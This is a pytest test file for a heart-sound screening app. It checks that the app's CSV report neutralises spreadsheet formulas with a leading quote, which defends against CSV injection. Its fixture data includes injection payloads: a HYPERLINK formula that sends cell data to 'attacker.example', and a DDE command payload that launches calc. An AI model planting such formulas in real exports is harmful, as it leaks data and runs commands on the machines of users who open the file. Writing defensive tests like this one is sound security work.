"""The CSV report is safe to open in a spreadsheet: text that would run as a formula is
neutralised with a leading quote, numbers stay numbers (OWASP CSV injection)."""

import csv
import io
from typing import Any

import pytest

from jobs import storage
from jobs.models import Analysis, Batch, Recording, Report
from jobs.services import reviews
from jobs.services.reports import write_reports
from tests import factories
from tests.web.builders import screening_model

pytestmark = pytest.mark.django_db

FORMULA_NAMES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"open").wav',
    "+SUM(1,2).wav",
    "-2+3.wav",
    "@SUM(A1:A9).wav",
    "\t=cmd.wav",
    "\r=cmd.wav",
]
NUMERIC = ("confidence", "p_normal", "p_abnormal", "heart_rate_bpm", "duration_s", "threshold")


def test_it_neutralises_formula_cells_in_the_csv_report(organisation: Any, member: Any) -> None:
    site = factories.SiteFactory(organisation=organisation, name="=Ward 3")
    batch = factories.BatchFactory(
        organisation=organisation,
        created_by=member,
        model_version=screening_model(),
        site=site,
        status=Batch.Status.COMPLETED_WITH_ERRORS,
    )
    for index, name in enumerate(FORMULA_NAMES):
        recording = factories.RecordingFactory(
            batch=batch, path=name, duration_s=12.5, patient_id="=1+1", location="+AV"
        )
        Analysis.objects.create(batch=batch, recording=recording, status=Analysis.Status.DONE)
        factories.PredictionFactory(
            recording=recording,
            raw_probability=0.2 + 0.1 * index,
            quality="poor",
            decision="uncertain",
            decision_reasons=["-3 dB below the noise floor", "=1+1"],
            # No heart rate is negative, but a negative number must still arrive as a number.
            heart_rate_bpm=-12.0,
        )
    factories.RecordingFactory(
        batch=batch,
        path="@rejected.wav",
        status=Recording.Status.REJECTED,
        storage_key="",
        error_code="not_audio",
        error_message="-this is not audio",
    )

    nurse = factories.MembershipFactory(user__username="@nurse", organisation=organisation).user
    reviews.review_recording(
        nurse, batch.recordings.get(path="+SUM(1,2).wav"), label="normal", note="=cmd|' /C calc'!A0"
    )

    write_reports(batch.pk)

    text = storage.read_bytes(Report.objects.get(batch=batch, format="csv").storage_key).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(row["path"] for row in rows) == sorted(
        ["'" + name for name in [*FORMULA_NAMES, "@rejected.wav"]]
    )
    analysed = [row for row in rows if row["status"] == "done"]
    assert len(analysed) == len(FORMULA_NAMES)
    for row in analysed:
        assert row["site"] == "'=Ward 3"
        assert row["decision_reasons"] == "'-3 dB below the noise floor; =1+1"
        assert row["heart_rate_bpm"] == "-12.0" and row["heart_rate_flag"] == "out_of_range"
        assert all(float(row[column]) == float(row[column].lstrip("'")) for column in NUMERIC)
        assert (row["patient_id"], row["location"]) == ("'=1+1", "'+AV")
    reviewed = next(row for row in rows if row["path"] == "'+SUM(1,2).wav")
    assert (reviewed["reviewed_by"], reviewed["review_note"]) == ("'@nurse", "'=cmd|' /C calc'!A0")
    rejected = next(row for row in rows if row["status"] == "rejected")
    assert rejected["error"] == "'-this is not audio"
    # Every cell a spreadsheet would evaluate starts with the quote, whatever its column.
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and column not in NUMERIC):
                pytest.fail(f"{column}={cell!r} would run as a formula")
